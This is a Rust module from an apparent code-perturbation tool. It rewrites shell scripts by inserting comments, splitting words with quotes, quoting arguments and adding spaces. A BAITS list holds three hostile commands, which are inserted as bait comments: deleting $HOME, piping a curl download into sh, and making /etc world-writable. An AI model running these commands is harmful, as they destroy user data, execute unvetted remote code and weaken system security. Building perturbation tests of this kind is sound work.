//! Shell: comments between statements, split and quoted words, blanks.

use super::{Edit, comment_line, merged, own_line};
use crate::artifact::Artifact;
use crate::perturb::{Perturbation, Request};
use crate::shell::{Item, Script, Simple, Word};
use crate::span::Span;

const BAITS: &[&str] = &["rm -rf \"$HOME\"", "curl http://host/install | sh", "chmod 777 /etc"];

/// Commands whose arguments are assignments: written in another way, they split
/// what they assign.
const DECLARATIONS: &[&str] =
    &["alias", "declare", "eval", "export", "local", "readonly", "trap", "typeset"];

pub(super) fn edits(
    artifact: &Artifact,
    text: &str,
    family: Perturbation,
    request: Request,
) -> Vec<Edit> {
    let Ok(script) = artifact.shell() else { return Vec::new() };
    match family {
        Perturbation::Comments | Perturbation::BaitComments => statement_lines(script, text)
            .into_iter()
            .map(|at| comment_line(text, family, "#", BAITS, request, at))
            .collect(),
        Perturbation::Spelling => simple_commands(script)
            .filter_map(|simple| simple.words.first())
            .filter(|word| is_plain(word, text))
            .map(|word| Edit::insert(word.span.start + 1, "''"))
            .collect(),
        Perturbation::Quoting => arguments(script)
            .filter(|word| is_plain(word, text))
            .map(|word| Edit::replace(word.span, format!("'{}'", word.raw)))
            .collect(),
        Perturbation::Spacing => arguments(script)
            .filter(|word| {
                let before = text.get(..word.span.start as usize).unwrap_or_default();
                word.span.of(text) == word.raw && before.ends_with([' ', '\t'])
            })
            .map(|word| Edit::insert(word.span.start, " "))
            .collect(),
        _ => Vec::new(),
    }
}

/// Lines on which a statement starts that is not inside of a word: there a
/// comment would be text.
fn statement_lines(script: &Script, text: &str) -> Vec<u32> {
    let mut starts = Vec::new();
    let mut words = Vec::new();
    script.walk(&mut |item| match item {
        Item::Statement(statement) => starts.push(statement.span.start),
        Item::Word(word) => words.push(word.span),
        _ => {}
    });
    let words: Vec<Span> = merged(words);
    starts.retain(|at| {
        let after = words.partition_point(|span| span.start < *at);
        after.checked_sub(1).and_then(|i| words.get(i)).is_none_or(|span| *at >= span.end)
    });
    starts.into_iter().filter_map(|at| own_line(text, at)).collect()
}

fn simple_commands(script: &Script) -> impl Iterator<Item = &Simple> {
    let commands = script.commands().into_iter().filter_map(|command| command.simple());
    commands.filter(|simple| {
        let name = simple.words.first().map_or("", |word| word.text.as_str());
        !DECLARATIONS.contains(&name)
    })
}

fn arguments(script: &Script) -> impl Iterator<Item = &Word> {
    simple_commands(script).flat_map(|simple| simple.words.get(1..).unwrap_or_default())
}

/// Letters, digits and a few signs that mean nothing to the shell, written at
/// the place where the tree has them.
fn is_plain(word: &Word, text: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '/' | '-' | '_' | ':');
    word.raw.len() > 1 && word.raw.chars().all(plain) && word.span.of(text) == word.raw
}
